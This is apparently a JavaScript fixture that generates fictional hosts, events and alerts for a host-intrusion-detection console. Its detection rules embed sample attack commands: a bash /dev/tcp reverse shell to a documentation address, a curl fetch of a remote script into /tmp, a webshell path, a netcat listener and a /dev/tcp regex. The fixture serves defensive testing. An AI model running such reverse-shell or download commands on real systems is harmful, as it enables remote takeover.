// Fictional hosts, events and alerts. Names and addresses are reserved for documentation.
// Everything follows from one seed, so that pictures of the console can be compared.

const HOUR = 3_600_000;

function random(seed) {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
}

const hex = (next, digits) =>
  Array.from({ length: digits }, () => Math.floor(next() * 16).toString(16)).join("");

const EBPF = [
  ["process", "ebpf", true, ""],
  ["connection", "packet+ebpf", true, ""],
  ["file", "ebpf", true, ""],
  ["loginlog", "wtmp", true, ""],
  ["inventory", "proc", true, ""],
];
const OLD_KERNEL = [
  ["process", "proc-connector", true, "kernel 4.18 has no BTF; install a kernel with BTF for full command lines"],
  ["connection", "packet", true, ""],
  ["file", "inotify", true, "kernel 4.18 has no BTF; the writing process is not known"],
  ["loginlog", "", false, "no wtmp, no auth.log and no journal could be read"],
  ["inventory", "proc", true, ""],
];

/** As crates/model/src/ladder.rs. */
const RUNGS = {
  ebpf: { rung: 1, consequence: "" },
  "proc-connector": {
    rung: 4,
    consequence: "short-lived processes come without command line, and losses are estimates",
  },
};

const SPECS = [
  ["shop-web-1", "192.0.2.11", "Debian GNU/Linux 12 (bookworm), kernel 6.1.0-28-amd64", ["web"], 0, EBPF],
  ["shop-web-2", "192.0.2.12", "Debian GNU/Linux 12 (bookworm), kernel 6.1.0-28-amd64", ["web"], 0, EBPF],
  ["orders-db-1", "192.0.2.21", "Ubuntu 24.04.1 LTS, kernel 6.8.0-49-generic", ["db"], 0, EBPF],
  ["orders-db-2", "192.0.2.22", "Ubuntu 24.04.1 LTS, kernel 6.8.0-49-generic", ["db"], 2, EBPF],
  ["legacy-crm", "192.0.2.40", "Rocky Linux 8.10, kernel 4.18.0-553.el8", ["web", "db"], 0, OLD_KERNEL],
  ["build-runner-7", "198.51.100.7", "Fedora Linux 41, kernel 6.11.8-300.fc41", [], 0, EBPF],
  ["bastion", "198.51.100.2", "Debian GNU/Linux 13 (trixie), kernel 6.12.6-amd64", [], 0, EBPF],
  ["backup-old", "203.0.113.9", "Debian GNU/Linux 11 (bullseye), kernel 5.10.0-32-amd64", [], 1, EBPF],
];

const RULES = [
  {
    source: "Shell opens a network connection through /dev/tcp", rule_id: "shell-dev-tcp", level: 0,
    type: "process", attack: ["T1059.004", "T1071"],
    description: "A shell was told to use its built-in network path. Attackers use it for reverse shells when no other tool is present; scheduled health checks written in bash are the usual harmless cause.",
    zh: "Shell 使用了内置的网络路径。在没有其他工具时，攻击者常用它建立反弹 Shell；常见的无害原因是用 bash 编写的健康检查。",
    field: "command", condition: "regex /dev/(tcp|udp)/",
    command: "bash -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1", name: "/usr/bin/bash",
  },
  {
    source: "Script file written below a web root", rule_id: "webroot-script", level: 0, type: "file",
    attack: ["T1505.003"],
    description: "A file that the web server would execute was created by the web server itself. Check who uploaded it.",
    zh: "Web 服务器进程自身创建了可被其执行的文件，请核查上传来源。",
    field: "path", condition: "regex \\.(php|jsp|aspx?)$",
    path: "/var/www/shop/uploads/avatar_3391.php",
  },
  {
    source: "First connection to this address", rule_id: "first-remote", level: 2, type: "connection",
    attack: [], description: "No host of the fleet has talked to this address before.",
    zh: "全部主机此前都没有与该地址通信过。",
    field: "remote_ip", condition: "count 1", remote: "203.0.113.201",
  },
  {
    source: "Repeated failed logins", rule_id: "login-failed", level: 1, type: "loginlog",
    attack: ["T1110"], description: "Somebody tried passwords on this account.", zh: "有人在尝试此账户的密码。",
    field: "username", condition: "regex ^(root|admin)$",
  },
  {
    source: "Download tool started by a web server", rule_id: "web-download", level: 1, type: "process",
    attack: ["T1105"],
    description: "A process of the web server started curl or wget.", zh: "Web 服务器进程启动了 curl 或 wget。",
    field: "name", condition: "string curl",
    command: "curl -fsSL http://198.51.100.200/x.sh -o /tmp/.x", name: "/usr/bin/curl",
  },
  {
    source: "blacklist", rule_id: "", level: 0, type: "connection", attack: [],
    description: "The address is on the black list.", zh: "该地址在黑名单中。",
    field: "remote_ip", condition: "blacklist 203.0.113.66", remote: "203.0.113.66",
  },
  {
    source: "New listening port", rule_id: "new-listen", level: 2, type: "listening", attack: [],
    description: "A port is open to other hosts that was not before.", zh: "出现了此前没有的对外监听端口。",
    field: "address", condition: "count 1",
  },
];

export function makeWorld(now = Date.now()) {
  const next = random(20260131);
  const iso = (at) => new Date(at).toISOString().replace("Z", "123456Z");
  const hosts = SPECS.map(([hostname, ip, system, tags, health, sensors]) => ({
    agent_id: hex(next, 32), ip, hostname, system, type: tags[0] ?? "", tags,
    path: tags.includes("web") ? ["/var/www/html", "/var/www/shop"] : [],
    health, uptime: iso(now - (health === 1 ? 9 * HOUR : next() * 50_000)),
    enrolled_at: iso(now - (20 + next() * 60) * 24 * HOUR), agent_version: "0.1.0",
    sensors: sensors.map(([stream, source, running, reason]) => ({
      stream,
      source,
      running,
      reason,
      ...(RUNGS[source] && running && stream === "process" ? RUNGS[source] : { consequence: "" }),
    })),
    open_alerts: 0,
  }));

  let seq = 0;
  const event = (host, at, type, data) => ({
    id: hex(next, 32), agent_id: host.agent_id, ip: host.ip, hostname: host.hostname,
    system: "linux", seq: ++seq, time: iso(at), observed_at: iso(at + 3), ingested_at: iso(at + 180),
    type, data,
  });
  const some = (list) => list[Math.floor(next() * list.length)];
  const pid = () => 1200 + Math.floor(next() * 60_000);

  const quiet = {
    process: () => {
      const [name, command, parentname] = some([
        ["/usr/bin/id", "id -u", "bash"], ["/usr/bin/df", "df -h /", "bash"],
        ["/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "systemd"],
        ["/usr/bin/curl", "curl -fsS http://127.0.0.1:8080/health", "sh"],
        ["/usr/bin/psql", "psql -Atc select 1", "sh"], ["/usr/bin/git", "git fetch --prune", "runner"],
        ["/usr/bin/python3", "python3 /opt/report/nightly.py --since yesterday", "cron"],
      ]);
      return { name, command, pid: pid(), ppid: 900, parentname, info: "PWD=/root LOGNAME=root", uid: 0, user: "root", cwd: "/" };
    },
    connection: () => {
      const remote = some(["198.51.100.20", "198.51.100.21", "203.0.113.201", "192.0.2.21"]);
      return {
        dir: some(["out", "out", "in"]), protocol: "tcp", local: `192.0.2.11:${30_000 + Math.floor(next() * 9_000)}`,
        remote: `${remote}:443`, remote_ip: remote, name: "/usr/bin/curl", pid: pid(), state: some(["established", "refused"]), attribution: "kernel",
      };
    },
    file: () => ({
      action: some(["WRITE", "CREATE|WRITE", "CHMOD"]),
      path: some(["/etc/resolv.conf", "/etc/cron.d/report", "/var/www/shop/cache/tpl_1.php", "/usr/bin/rg"]),
      hash: hex(next, 32), user: "root", size: Math.floor(next() * 20_000), actor_pid: pid(), actor_name: some(["/usr/bin/dpkg", "/usr/sbin/nginx"]),
    }),
    loginlog: () => ({ username: some(["deploy", "root", "admin"]), remote: some(["198.51.100.2", "203.0.113.50"]), status: some(["true", "true", "false"]), hostname: "bastion", source: "wtmp" }),
  };

  const events = [];
  for (let i = 0; i < 900; i += 1) {
    const type = some(["process", "process", "process", "connection", "connection", "file", "loginlog"]);
    events.push(event(some(hosts), now - next() * 24 * HOUR, type, quiet[type]()));
  }

  const alerts = [];
  function raise(rule, host, at, extra = {}) {
    const data = {
      process: () => ({ ...quiet.process(), name: rule.name, command: extra.command ?? rule.command, ppid: 4101, parentname: "sh", user: "www-data", uid: 33, cwd: "/var/www/shop", ancestors: ["/usr/bin/dash", "/usr/sbin/php-fpm8.2", "/usr/lib/systemd/systemd"] }),
      connection: () => ({ ...quiet.connection(), dir: "out", remote: `${rule.remote}:4444`, remote_ip: rule.remote }),
      file: () => ({ ...quiet.file(), action: "CREATE|WRITE", path: rule.path, user: "www-data", actor_name: "/usr/sbin/php-fpm8.2", web: true }),
      loginlog: () => ({ ...quiet.loginlog(), username: "root", status: "false", remote: "203.0.113.50" }),
      listening: () => ({ proto: "tcp", address: "0.0.0.0:9001", pid: "5120", name: "/usr/bin/nc" }),
    }[rule.type]();
    const stored = ["process", "connection", "file", "loginlog"].includes(rule.type) ? event(host, at, rule.type, data) : undefined;
    if (stored) events.push(stored);
    const alert = {
      id: hex(next, 32), agent_id: host.agent_id, ip: host.ip, hostname: host.hostname, type: rule.type, source: rule.source,
      rule_id: rule.rule_id, level: rule.level, info: String(data[rule.field]), description: rule.description, description_zh: rule.zh,
      attack: rule.attack, status: extra.status ?? 0, time: iso(at), raised_at: iso(at + 250), uptime: iso(at), count: extra.count ?? 1,
      matched: [{ field: rule.field, value: String(data[rule.field]), condition: rule.condition }], raw: stored ?? data,
    };
    alerts.push(alert);
    return alert;
  }
  for (let i = 0; i < 64; i += 1) {
    const host = hosts[Math.floor(next() * 7)];
    const at = now - (i < 6 ? next() * HOUR : next() * 24 * HOUR);
    const roll = next();
    raise(some(RULES), host, at, { status: roll < 0.5 ? 0 : roll < 0.75 ? 1 : roll < 0.85 ? 2 : 4, count: roll < 0.2 ? 2 + Math.floor(next() * 40) : 1 });
  }

  const world = { now, hosts, events, alerts, raise, rules: RULES, users: [{ username: "admin", password: "correct horse battery" }], learn: false, setupCode: "MOCK-SETUP" };
  sort(world);
  return world;
}

export function sort(world) {
  world.events.sort((a, b) => b.time.localeCompare(a.time));
  world.alerts.sort((a, b) => b.time.localeCompare(a.time));
  for (const host of world.hosts) host.open_alerts = world.alerts.filter((a) => a.agent_id === host.agent_id && a.status === 0).length;
}

export function books(host, index) {
  const old = host.sensors.some((sensor) => !sensor.running);
  const stream = (emitted, filtered, dropped, inFlight) => {
    const lost = Object.values(dropped).reduce((a, b) => a + b, 0);
    const spooled = emitted - filtered - lost;
    return { emitted, spooled, filtered, dropped, stored: spooled - inFlight, in_flight: inFlight, balanced: true };
  };
  return {
    process: stream(48_210 + index * 731, 0, old ? { queue_overflow: 37 } : {}, index === 0 ? 4 : 0),
    connection: stream(20_144 + index * 97, 3_120, {}, 0),
    file: stream(7_300 + index * 41, 812, index === 5 ? { queue_overflow: 12, agent_down: 3 } : {}, 0),
    loginlog: stream(118 + index, 0, {}, 0),
    inventory: stream(46 + index, 0, {}, 0),
  };
}

export const inventories = {
  userlist: [{ name: "root", description: "0:0:root:/root:/bin/bash", status: "" }, { name: "deploy", description: "1000:1000::/home/deploy:/bin/bash", status: "" }],
  listening: [{ proto: "tcp", address: "0.0.0.0:22", pid: "811", name: "/usr/sbin/sshd" }, { proto: "tcp", address: "[::]:443", pid: "1290", name: "/usr/sbin/nginx" }],
  service: ["nginx", "ssh", "cron", "php8.2-fpm", "systemd-timesyncd"].map((name) => ({ name: `${name}.service`, pathname: `/usr/sbin/${name}`, started: "True", startmode: "Auto", startname: "root", caption: name })),
  startup: [{ name: "ld.so.preload", command: "", location: "/etc/ld.so.preload", user: "root" }],
  crontab: [{ command: "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily", user: "root", rule: "25 6 * * *", name: "", arg: "", description: "/etc/crontab" }],
  processlist: Array.from({ length: 60 }, (_, i) => ({ name: i % 7 ? "php-fpm8.2" : "nginx", pid: String(900 + i * 3), ppid: "1", command: i % 7 ? "php-fpm: pool www" : "nginx: worker process", starttime: "2026-01-12T05:11:09Z" })),
  package: ["openssl", "nginx", "bash"].map((name, i) => ({ name, version: `${i + 1}.0-1`, arch: "amd64", manager: "dpkg", source: name, vendor: "Debian", installtime: "2026-01-10T08:00:00Z" })),
  module: [{ name: "nf_tables", size: "303104", usedby: "nft_compat", state: "Live", path: "/lib/modules/6.1.0-18-amd64/kernel/net/netfilter/nf_tables.ko", signed: "True" }],
  sshkey: [{ user: "deploy", path: "/home/deploy/.ssh/authorized_keys", kind: "ssh-ed25519", fingerprint: "SHA256:jYtFZqH9p1W5Nn0kq0b0v9y3uEoW7Kf1m2aX3cR4d5E", comment: "ci@build", options: "restrict" }],
  sudoer: [{ name: "%sudo", host: "ALL", runas: "ALL:ALL", commands: "ALL", location: "/etc/sudoers", line: "47" }],
  container: [{ engine: "docker", id: "4f1c9d2a7be0", name: "cache", image: "redis:7", state: "running", privileged: "False", pid: "2210", started: "2026-01-10T08:00:00Z" }],
};
